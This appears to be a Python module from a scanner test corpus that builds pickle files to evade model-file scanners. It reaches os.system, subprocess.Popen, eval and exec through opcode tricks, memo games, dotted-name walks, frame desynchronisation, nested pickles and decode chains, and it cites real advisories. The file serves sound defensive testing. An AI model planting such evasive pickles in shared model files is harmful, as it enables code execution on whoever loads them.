"""Pickles that use the virtual machine against the scanner: what is called is plain, how it is reached is not."""

from __future__ import annotations

import codecs
import struct
import zlib

from zt_gate.corpus.construct import Construct, Row, table
from zt_gate.corpus.opcodes import (
    HOSTILE,
    OLD_HOSTILE,
    SYSTEM,
    WORD,
    blob,
    call,
    name,
    program,
    stack_name,
    text,
)

_CWE = "CWE-502"
_BROKEN = "nullifAI, ReversingLabs 2025-02; GHSA-9gvj-pp9x-gcfr"
_DESYNC = "differences between pickletools and _pickle.c"
_WALK = "modelscan issue 89, GHSA-5j3x-jp52-966f"
_STATE = "modelscan issue 330"
_NESTED = "promptfoo disclosure on nested pickles"
_EOP = "exception-oriented programming, arXiv 2508.19774"
_EXT = "nltk issue 3757: copyreg extensions reach past find_class"


def _pickle(label: str, title: str, reference: str, body: bytes, protocol: int = 4) -> Row:
    return label, title, reference, {"model.pkl": program(body, protocol)}


def _raw(label: str, title: str, reference: str, data: bytes) -> Row:
    return label, title, reference, {"model.pkl": data}


def _framed(body: bytes) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


def _crossed(before: bytes) -> bytes:
    """Make a string whose length begins in a frame and ends behind it; CPython runs what seems to be its content."""
    # BINBYTES has a length of four bytes, of which two lie in the frame; CPython drops those and reads four anew.
    behind = bytes(4) + b"cos\nsystem\n)R."
    return _framed(before + b"B" + struct.pack("<H", len(behind) - 2)) + behind + b"."


_NAMESPACE = stack_name("argparse", "Namespace") + b")\x81"
_CALLS = [
    _raw("global-reduce-0", "GLOBAL and REDUCE in protocol 0", _CWE, OLD_HOSTILE),
    _pickle("global-reduce-1", "protocol 1: no PROTO opcode", _CWE, SYSTEM, 1),
    _pickle("global-reduce-2", "GLOBAL and REDUCE in protocol 2", _CWE, SYSTEM, 2),
    _pickle("stack-global-5", "STACK_GLOBAL in protocol 5", _CWE, call(stack_name("os", "system"), WORD), 5),
    _raw("inst", "INST calls without REDUCE", _CWE, b"(S'true'\nios\nsystem\n."),
    _raw("obj", "OBJ calls without REDUCE", _CWE, b"(cos\nsystem\nS'true'\no."),
    _pickle("newobj", "NEWOBJ constructs a process", _CWE, stack_name("subprocess", "Popen") + WORD + b"\x85\x81"),
    _pickle("newobj-ex", "NEWOBJ_EX constructs a process", _CWE,
            stack_name("subprocess", "Popen") + WORD + b"\x85}\x92"),
    _pickle("python2-name", "a name of Python 2 that is mapped on loading", _CWE,
            call(name("__builtin__", "eval"), WORD), 2),
    _pickle("python2-module", "a module of Python 2 that is mapped on loading", _CWE,
            call(name("commands", "getoutput"), WORD), 2),
    _pickle("popped-call", "the result is popped: it left the syntax tree of a decompiler", _NESTED, SYSTEM + b"0N"),
    _pickle("pop-mark", "the result is dropped with POP_MARK", _NESTED, b"(" + SYSTEM + b"1N"),
    _pickle("popped-import", "an import that is popped still runs a module", _CWE, name("antigravity", "fly") + b"0N"),
    _pickle("dup", "the callable is duplicated before it is called", _CWE,
            stack_name("os", "system") + b"2" + WORD + b"\x85R0" + b"0N"),
    _pickle("decoy-global", "an innocent import in front of the hostile one", _CWE,
            stack_name("collections", "OrderedDict") + b"0" + SYSTEM),
    _pickle("call-of-result", "the result of a call is called", _CWE,
            call(call(stack_name("builtins", "getattr"), stack_name("os", "path"), WORD), WORD)),
    _pickle("callable-in-list", "a callable is handed to a library that calls it", _CWE,
            call(stack_name("collections", "defaultdict"), stack_name("os", "getcwd"))),
]  # fmt: skip

_MEMO = [
    _pickle("memo", "the parts of the name come from the memo", _CWE,
            text("os") + b"\x940" + text("system") + b"\x940h\x00h\x01\x93" + WORD + b"\x85R"),
    _pickle("memo-overwrite", "the memo is overwritten between store and use", _CWE,
            text("x") + b"q\x000" + text("os") + b"q\x000h\x00" + text("system") + b"\x93" + WORD + b"\x85R"),
    _pickle("memo-far", "a memo index that is far away", _CWE,
            text("os") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("system") + b"\x93" + WORD + b"\x85R"),
    _pickle("memo-text-put", "PUT and GET in their text form", _CWE,
            text("os") + b"p7\n0g7\n" + text("system") + b"\x93" + WORD + b"\x85R"),
    _pickle("memoised-callable", "the callable itself waits in the memo", _CWE,
            stack_name("os", "system") + b"\x940" + b"h\x00" + WORD + b"\x85R"),
    _pickle("escaped-name", "a module name in raw-unicode-escape", _DESYNC,
            b"V\\u006f\\u0073\n" + text("system") + b"\x93" + WORD + b"\x85R"),
    _pickle("binstring-name", "names as bytes strings of Python 2", _DESYNC,
            b"U\x02osU\x06system\x93" + WORD + b"\x85R"),
    _pickle("quoted-name", "names as quoted STRING with escapes", _DESYNC,
            b"S'\\x6fs'\nS\"syst\\x65m\"\n\x93" + WORD + b"\x85R"),
    _pickle("computed-name", "the name is computed by a call", "MALFORMED STACK_GLOBAL operands",
            text("os") + call(stack_name("builtins", "str"), text("system")) + b"\x93" + WORD + b"\x85R"),
    _pickle("name-of-bytes", "the operand of STACK_GLOBAL is no string", "MALFORMED STACK_GLOBAL operands",
            text("os") + blob(b"system") + b"\x93" + WORD + b"\x85R"),
    _pickle("far-operands", "much lies between the names and STACK_GLOBAL", _CWE,
            text("os") + text("system") + (b"K\x01" + b"0") * 400 + b"\x93" + WORD + b"\x85R"),
    _pickle("mark-between", "a MARK lies between the names and STACK_GLOBAL", _CWE,
            text("os") + b"(1" + text("system") + b"(1\x93" + WORD + b"\x85R"),
]  # fmt: skip

_WALKS = [
    _pickle("dotted-posixpath", "os.system reached through posixpath", _WALK,
            call(stack_name("posixpath", "os.system"), WORD)),
    _pickle("dotted-torch", "os.system reached through torch.serialization", _WALK,
            call(stack_name("torch.serialization", "os.system"), WORD)),
    _pickle("dotted-numpy", "os.system reached through a numpy function", _WALK,
            call(stack_name("numpy", "prod.os.system"), WORD)),
    _pickle("dotted-globals", "eval reached through __globals__", _WALK,
            stack_name("collections", "OrderedDict.__init__.__globals__")),
    _pickle("dotted-listed-class", "a class method of a listed class", _WALK,
            call(stack_name("collections", "OrderedDict.fromkeys"), WORD)),
    _pickle("dotted-global-4", "a dotted name in GLOBAL under protocol 4", _WALK,
            call(name("posixpath", "os.system"), WORD)),
    _pickle("numpy-builtins", "numpy.__builtins__ is a dict with eval in it", _STATE,
            stack_name("numpy", "__builtins__") + text("len") + stack_name("os", "getpid") + b"s"),
    _pickle("build-on-class", "BUILD overwrites attributes of a class", _STATE,
            stack_name("collections", "OrderedDict") + b"}" + text("get") + b"Nsb"),
    _pickle("build-on-module-function", "BUILD on a function", _STATE, stack_name("os.path", "join") + b"}b"),
    _pickle("build-dunder", "BUILD sets __class__", _STATE, _NAMESPACE + b"}" + text("__class__") + b"Nsb"),
    _pickle("build-slots", "BUILD sets __class__ through slot state", _STATE,
            _NAMESPACE + b"N}" + text("__class__") + b"Ns\x86b"),
    _pickle("setitem-on-import", "SETITEM on an imported object", _STATE,
            stack_name("os", "environ") + text("PATH") + text("/nowhere") + b"s"),
    _pickle("append-on-import", "APPEND on an imported list", _STATE, stack_name("sys", "path") + text("x") + b"a"),
    _pickle("additems-on-import", "ADDITEMS on an imported set", _STATE,
            stack_name("sys", "builtin_module_names") + b"(" + text("x") + b"\x90"),
]  # fmt: skip

_EXTERNAL = [
    _pickle("ext1", "EXT1: an object by number", _EXT, b"\x82\x01", 2),
    _pickle("ext2", "EXT2: an object by number", _EXT, b"\x83\x01\x00", 2),
    _pickle("ext4", "EXT4: an object by number", _EXT, b"\x84\x01\x00\x00\x00", 2),
    _pickle("add-extension", "the extension registers itself first", _EXT,
            call(stack_name("copyreg", "add_extension"), text("os"), text("system"), b"K\x07") + b"0\x82\x07"),
    _pickle("persid", "PERSID asks the loader", "CWE-502: persistent_load", b"Phttp://example.invalid\n", 2),
    _pickle("binpersid", "BINPERSID asks the loader", "CWE-502: persistent_load", WORD + b"Q"),
    _pickle("binpersid-tuple", "a storage tuple outside a PyTorch container", "CWE-502: persistent_load",
            b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04tQ"),
]  # fmt: skip

_BREAKS = [
    _raw("broken-after", "an unknown opcode behind the call", _BROKEN, b"\x80\x02" + SYSTEM + b"\xff"),
    _raw("no-stop", "no STOP behind the call", _BROKEN, b"\x80\x02" + SYSTEM),
    _raw("stack-underflow-after", "the stack underflows behind the call", _EOP, b"\x80\x02" + SYSTEM + b"0000."),
    _raw("memo-error-after",
     "a memo entry that does not exist, behind the call", _EOP, b"\x80\x02" + SYSTEM + b"h\x09."),
    _raw("huge-length-after", "a length of 2**62 behind the call", _EOP,
         b"\x80\x04" + SYSTEM + b"\x8d" + struct.pack("<Q", 1 << 62) + b"x."),
    _raw("negative-length-after", "a negative length behind the call", _EOP,
         b"\x80\x02" + SYSTEM + b"\x8b\xff\xff\xff\xff."),
    _raw("future-protocol", "an unknown protocol behind the call", _EOP, b"\x80\x02" + SYSTEM + b"\x80\x63."),
    _raw("bad-utf8-after", "a string that is not UTF-8 behind the call", _EOP,
         b"\x80\x02" + SYSTEM + b"X\x02\x00\x00\x00\xff\xfe."),
    _raw("frame-too-long", "a frame beyond the end of the file", _DESYNC,
         b"\x80\x04" + SYSTEM + b"\x95" + struct.pack("<Q", 1 << 40) + b"N."),
    _raw("frame-too-short", "a frame that ends within an opcode", _DESYNC,
         b"\x80\x04\x95" + struct.pack("<Q", 3) + SYSTEM + b"."),
    _raw("frame-crossed", "a length that lies across the end of a frame, whose rest a file-based loader drops", _DESYNC,
         _crossed(b"")),
    _raw("frame-crossed-late", "the same behind thousands of harmless opcodes", _DESYNC, _crossed(b"N0" * 10_000)),
    _raw("frame-past-stop", "a frame beyond STOP that hides what a second load would read", _DESYNC,
         _framed(b"N.\x80\x04\x8e" + struct.pack("<Q", len(OLD_HOSTILE))) + OLD_HOSTILE + b"."),
    _raw("frame-in-frame", "a frame within a frame", _DESYNC, _framed(b"\x95" + bytes(8) + SYSTEM + b".")),
    _raw("proto-midstream", "PROTO in the middle of the stream", _DESYNC,
         b"\x80\x02N0\x80\x04" + call(stack_name("os", "system"), WORD) + b"."),
    _raw("int-hex", "INT in a form that pickletools rejects", _DESYNC, b"I0x10\n0" + OLD_HOSTILE),
    _raw("int-bool", "INT as a boolean literal", _DESYNC, b"I01\n0" + OLD_HOSTILE),
    _raw("long-text", "LONG with its suffix", _DESYNC, b"L12345678901234567890L\n0" + OLD_HOSTILE),
    _raw("float-text", "FLOAT in an odd form", _DESYNC, b"F1e400\n0" + OLD_HOSTILE),
    _raw("utf8-global", "a name that is not ASCII, which pickletools rejects", _DESYNC,
         b"\x80\x04" + SYSTEM + b"0cpost\xc3\xa9\nname\n."),
    _raw("next-buffer", "an out-of-band buffer in front of the call", _DESYNC, b"\x80\x05\x970" + SYSTEM + b"."),
    _raw("empty-then-break", "an empty mark and a call", _DESYNC, b"\x80\x04((t1" + SYSTEM + b"."),
    _raw("second-pickle", "the call is in the second pickle", "modelscan reads on, loaders may too",
         b"\x80\x04N." + HOSTILE),
    _raw("second-after-padding", "zeros, then a second pickle", "picklescan reads the first only",
         b"\x80\x04N." + bytes(64) + HOSTILE),
    _raw("hundredth-pickle", "the call is in the hundredth pickle", "scanners that stop counting",
         b"\x80\x04N." * 99 + HOSTILE),
    _raw("call-after-megabytes", "two megabytes of numbers in front of the call", "byte budgets",
         b"\x80\x04](" + b"K\x01" * (1 << 20) + b"e0" + SYSTEM + b"."),
    _raw("call-behind-a-blob", "a long bytes constant in front of the call", "byte budgets",
         b"\x80\x04" + blob(bytes(3 << 20)) + b"0" + SYSTEM + b"."),
]  # fmt: skip

_INNER = [
    _pickle("loads-bytes", "a pickle inside bytes, given to pickle.loads", _NESTED,
            call(stack_name("pickle", "loads"), blob(OLD_HOSTILE))),
    _pickle("dill-loads-bytes", "a pickle inside bytes, given to dill", _NESTED,
            call(stack_name("dill._dill", "loads"), blob(OLD_HOSTILE))),
    _pickle("torch-load-bytesio", "a pickle inside a BytesIO, given to torch.load", _NESTED,
            call(stack_name("torch", "load"), call(stack_name("_io", "BytesIO"), blob(HOSTILE)))),
    _pickle("load-from-bytes", "a pickle given to torch.storage._load_from_bytes", _NESTED,
            call(stack_name("torch.storage", "_load_from_bytes"), blob(HOSTILE))),
    _pickle("load-from-computed-bytes", "computed bytes given to torch.storage._load_from_bytes", _NESTED,
            call(stack_name("torch.storage", "_load_from_bytes"),
                 call(stack_name("_codecs", "encode"), text("x"), text("latin1")))),
    _pickle("rebuild-from-type", "a rebuild helper is given what to call", _NESTED,
            call(stack_name("torch._tensor", "_rebuild_from_type_v2"), stack_name("torch.storage", "_load_from_bytes"),
                 stack_name("builtins", "object"), blob(OLD_HOSTILE) + b"\x85", b"}")),
    _pickle("rot13-eval", "rot13 text decoded and evaluated", "decode chains, SiggytheShark",
            call(stack_name("builtins", "eval"),
                 call(stack_name("codecs", "decode"), text(codecs.encode("None", "rot13")), text("rot13")))),
    _pickle("zlib-exec", "compressed code unpacked and executed", "decode chains",
            call(stack_name("builtins", "exec"), call(stack_name("zlib", "decompress"), blob(zlib.compress(b"pass"))))),
    _pickle("base64-marshal", "a code object in base64", "decode chains",
            call(stack_name("marshal", "loads"), call(stack_name("base64", "b64decode"), text("4wAAAAA=")))),
    _pickle("cloudpickle-function", "cloudpickle builds a function from code", "CWE-94",
            call(stack_name("cloudpickle.cloudpickle", "_builtin_type"), text("CodeType"))),
    _pickle("dill-function", "dill builds a function from code", "CWE-94",
            call(stack_name("dill._dill", "_create_function"), blob(b"code"), b"}")),
    _pickle("import-module-vars", "import_module, vars and getitem, one after the other", "modelscan huntr reports",
            call(stack_name("operator", "getitem"), call(stack_name("builtins", "vars"),
                 call(stack_name("importlib", "import_module"), text("os"))), text("system"))),
]  # fmt: skip

CONSTRUCTS: tuple[Construct, ...] = table("pickle-machine", [*_CALLS, *_MEMO, *_WALKS, *_EXTERNAL, *_BREAKS, *_INNER])
